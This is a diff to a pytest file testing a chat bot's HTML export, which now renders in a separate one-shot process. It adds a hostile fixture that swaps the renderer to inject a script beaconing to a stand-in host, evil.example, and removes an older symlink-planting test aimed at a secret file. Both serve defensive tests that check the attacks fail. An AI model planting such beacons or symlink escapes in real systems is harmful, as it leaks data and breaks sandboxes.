@@ -1,12 +1,14 @@
-"""``export html``: the thread as one self-contained web page, rendered by the thread's kernel.
+"""``export html``: the thread as one self-contained web page, rendered in a fresh one-shot.
 
-Real kernels, a real store and the scripted model server; the page is checked with the
-standard library's ``html.parser`` (what a browser would load or run), never by string search
-alone.
+Real kernels, a real store, real one-shot processes and the scripted model server; the page is
+checked with the standard library's ``html.parser`` (what a browser would load or run), never
+by string search alone. The page never comes from the thread's kernel: a cell that replaced
+the renderer there changes nothing, and no kernel is leased for it.
 """
 
 from __future__ import annotations
 
+import asyncio
 import base64
 import io
 import json
@@ -15,13 +17,15 @@ import time
 from html.parser import HTMLParser
 from pathlib import Path
 
+import psutil
 import pytest
 from PIL import Image
 
 from bot import commands
 from bot.app import Core
-from bot.commands import HELP_TEXT, HTML_FAILED_NOTICE, HTML_WORKSPACE_NOTICE
-from kernels.result import UnsafePathError
+from bot.commands import HELP_TEXT
+from kernels import KernelOptions
+from kernels.oneshot import OneShot
 from kernels.workspace import STATE_DIR
 from tests.fakes.memory import MemoryChat
 from tests.fakes.openai_server import ScriptedOpenAI, answer, tool_call
@@ -124,11 +128,11 @@ async def test_export_html_is_one_page_with_the_chart_inline(chat: MemoryChat, l
     text = "".join(page.text)
     assert "bar chart please" in text and "the chart" in text and "plt.bar" in text.replace("\n", "")
     assert page.named("strong")
-    # Both temporary files are gone, and the workspace lists nothing new.
+    # Nothing was written into the thread's workspace.
     workspace = core.pool.workspaces.for_key(str(chat.key()))
     assert export_files(workspace.path) == []
     assert await workspace.list_files() == []
-    # nbconvert ran in a child process: the kernel itself never imported it.
+    # nbconvert ran in a one-shot process: the kernel itself never imported it.
     session = core.pool.get(str(chat.key()))
     assert session is not None
     assert await session.evaluate("'nbconvert' in __import__('sys').modules", 5) == "False"
@@ -164,54 +168,65 @@ async def test_hostile_html_output_and_message_come_out_neutralised(chat: Memory
     assert "alert(1)" in "".join(page.text)
 
 
-async def test_links_planted_at_the_temporary_names_are_never_followed(
-    chat: MemoryChat, llm: ScriptedOpenAI, core: Core, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    outside = tmp_path / "outside"
-    outside.mkdir()
-    (outside / "secret.html").write_text("TOP SECRET")
-    monkeypatch.setattr(commands, "_export_token", lambda: "feedfacefeedface")
-    plant = (
-        "import os\nos.makedirs('.threadbook', exist_ok=True)\n"
-        f"os.symlink({str(outside / 'victim.ipynb')!r}, '.threadbook/export-feedfacefeedface.ipynb')\n"
-        f"os.symlink({str(outside / 'secret.html')!r}, '.threadbook/export-feedfacefeedface.html')\n"
-        "print('planted')"
-    )
-    llm.script(tool_call(plant), answer("Planted."))
-    await chat.say("plant the links")
-    workspace = core.pool.workspaces.for_key(str(chat.key()))
-    assert (workspace.path / STATE_DIR / "export-feedfacefeedface.ipynb").is_symlink()
+#: A cell that replaces the renderer in its kernel: the module, its ``render`` and ``for_bot``
+#: (which wrote the page the bot then read), all making a page with a beacon and no CSP.
+SWAP_RENDERER = """
+import json, os, sys, types
+import threadbook_kernel
+BEACON = "<html><head></head><body><script>fetch('https://evil.example/beacon')</script>owned</body></html>"
+def render(notebook):
+    return BEACON
+def for_bot(source, target, max_bytes, timeout):
+    with open(os.path.join('.threadbook', target), 'w') as page:
+        page.write(BEACON)
+    class Ok:
+        def __repr__(self):
+            return json.dumps({'ok': True, 'bytes': len(BEACON)})
+    return Ok()
+fake = types.ModuleType('threadbook_kernel.export')
+fake.render, fake.for_bot = render, for_bot
+try:
+    import threadbook_kernel.export as real
+    real.render, real.for_bot = render, for_bot
+except Exception:
+    pass
+sys.modules['threadbook_kernel.export'] = fake
+threadbook_kernel.export = fake
+print('swapped')
+"""
 
-    # A link at the notebook's name: the bot writes nothing (and nothing outside).
+
+async def test_a_renderer_swapped_in_the_kernel_changes_nothing(chat: MemoryChat, llm: ScriptedOpenAI, core: Core) -> None:
+    llm.script(tool_call(SWAP_RENDERER), answer("Swapped."))
+    await chat.say("swap the renderer")
+    session = core.pool.get(str(chat.key()))
+    assert session is not None
+    assert await session.evaluate("type(__import__('sys').modules['threadbook_kernel.export']).__name__", 5) == "'module'"
     reply = (await chat.say("export html", mentioned=False)).reply
-    assert (reply.text, reply.files, reply.ok) == (HTML_WORKSPACE_NOTICE, (), False)
-    assert not (outside / "victim.ipynb").exists()
+    assert reply.ok, reply.text
+    data = reply.files[0].open_reader().read()
+    page = parse(data)
+    assert_self_contained(page)  # the CSP is there, no script
+    assert not page.named("script") and b"<script>fetch" not in data  # the cell's code is on the page only as text
+    assert "swap the renderer" in "".join(page.text) and page.named("strong")  # the genuine page of this thread
 
-    # A link at the page's name only: the kernel will not write through it, the bot reads nothing.
-    llm.script(tool_call("os.unlink('.threadbook/export-feedfacefeedface.ipynb')"), answer("Removed."))
-    await chat.say("remove one")
-    reply = (await chat.say("export html", mentioned=False)).reply
-    assert (reply.text, reply.files, reply.ok) == (HTML_FAILED_NOTICE, (), False)
-    assert (outside / "secret.html").read_text() == "TOP SECRET"
-    assert sorted(os.listdir(outside)) == ["secret.html"]
-    assert export_files(workspace.path) == []  # its own notebook, and the planted link, cleaned up
 
-    # Threadbook's folder itself a link out of the workspace: refused, nothing written there.
-    llm.script(
-        tool_call(f"import shutil\nshutil.rmtree('.threadbook')\nos.symlink({str(outside)!r}, '.threadbook')"),
-        answer("Swapped."),
-    )
-    await chat.say("swap the folder")
-    reply = (await chat.say("export html", mentioned=False)).reply
-    assert (reply.text, reply.files, reply.ok) == (HTML_WORKSPACE_NOTICE, (), False)
-    assert sorted(os.listdir(outside)) == ["secret.html"]
-
-    # And had the kernel swapped the finished page for a link, the bot would refuse to read it.
-    os.unlink(workspace.path / STATE_DIR)
-    (workspace.path / STATE_DIR).mkdir()
-    (workspace.path / STATE_DIR / "export-0123456789abcdef.html").symlink_to(outside / "secret.html")
-    with pytest.raises(UnsafePathError):
-        commands._read_page(workspace, "export-0123456789abcdef.html", commands.HTML_MAX_BYTES)
+async def test_export_html_runs_nothing_of_the_thread(chat: MemoryChat, llm: ScriptedOpenAI, core: Core) -> None:
+    llm.script(tool_call("x = 42"), answer("Kept."))
+    await chat.say("keep 42")
+    key = str(chat.key())
+    session = core.pool.get(key)
+    assert session is not None
+    executions = session.executions
+    # The thread's kernel is held (a turn of its own): the export does not wait for it.
+    async with core.pool.lease(key, KernelOptions()):
+        reply = (await asyncio.wait_for(chat.say("export html", mentioned=False), 60)).reply
+    assert reply.ok, reply.text
+    assert session.executions == executions
+    # With no kernel at all, none is started for it.
+    await core.pool.shutdown(key)
+    assert (await chat.say("export html", mentioned=False)).reply.ok
+    assert core.pool.get(key) is None
 
 
 async def test_a_page_over_the_limit_is_refused_in_one_sentence(
@@ -219,17 +234,17 @@ async def test_a_page_over_the_limit_is_refused_in_one_sentence(
 ) -> None:
     llm.script(tool_call("print('hello')"), answer("Hello."))
     await chat.say("say hello")
-    monkeypatch.setattr(commands, "HTML_MAX_BYTES", 10_000)  # the kernel refuses to write it
+    monkeypatch.setattr(commands, "HTML_MAX_BYTES", 10_000)  # the one-shot refuses to write it
     reply = (await chat.say("export html", mentioned=False)).reply
     assert not reply.ok and not reply.files
     assert "over the 9.8 KB limit" in reply.text and "\n" not in reply.text
     workspace = core.pool.workspaces.for_key(str(chat.key()))
     assert export_files(workspace.path) == []
-    # The bot's own bound holds whatever the kernel says.
-    big = workspace.path / STATE_DIR / "export-00000000000000aa.html"
-    big.write_bytes(b"x" * 20_000)
-    with pytest.raises(commands._TooBig):
-        commands._read_page(workspace, big.name, 10_000)
+    # The bot's own bound holds whatever the one-shot wrote.
+    async with OneShot(core.pool.launcher).job() as job:  # type: ignore[arg-type]  # sandbox: none, a KernelLauncher
+        await asyncio.to_thread(job.write, "page.html", b"x" * 20_000)
+        assert await asyncio.to_thread(job.read, "page.html", 10_000) is None
+        assert await asyncio.to_thread(job.read, "page.html", 20_000) == b"x" * 20_000
 
 
 async def test_empty_thread_has_nothing_to_export(chat: MemoryChat, llm: ScriptedOpenAI) -> None:
@@ -247,14 +262,14 @@ async def test_a_render_that_takes_too_long_is_stopped_and_loses_nothing(
     key = str(chat.key())
     session = core.pool.get(key)
     assert session is not None
-    monkeypatch.setattr(commands, "HTML_RENDER_TIMEOUT_S", 10.05)  # the kernel gives its render 0.05 s
+    monkeypatch.setattr(commands, "HTML_RENDER_TIMEOUT_S", 0.05)
     reply = (await chat.say("export html", mentioned=False)).reply
     assert (reply.text, reply.files, reply.ok) == (commands.HTML_TIMEOUT_NOTICE, (), False)
     monkeypatch.undo()
-    # The same kernel, variables intact; nothing left behind; the next export works.
+    # The same kernel, variables intact; no render left running; the next export works.
     assert core.pool.get(key) is session
     assert await session.evaluate("x", 5) == "42"
-    assert export_files(core.pool.workspaces.for_key(key).path) == []
+    assert not [p for p in psutil.process_iter(["cmdline"]) if "threadbook_kernel.export" in (p.info["cmdline"] or [])]
     assert (await chat.say("export html", mentioned=False)).reply.ok
 
 
